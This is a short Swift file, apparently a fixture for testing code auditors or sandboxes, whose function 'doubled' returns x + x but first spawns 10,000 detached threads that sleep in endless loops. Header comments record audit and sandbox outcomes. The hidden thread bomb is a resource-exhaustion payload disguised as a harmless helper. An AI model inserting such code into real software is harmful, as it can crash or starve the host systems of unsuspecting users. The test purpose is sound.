// Starts threads for ever.
// audited: refused; Thread
// sandboxed: timed_out crashed out_of_memory passed

import Foundation

public func doubled(_ x: Double) throws -> Double {
  for _ in 0..<10_000 { Thread.detachNewThread { while true { sleep(60) } } }
  return x + x
}
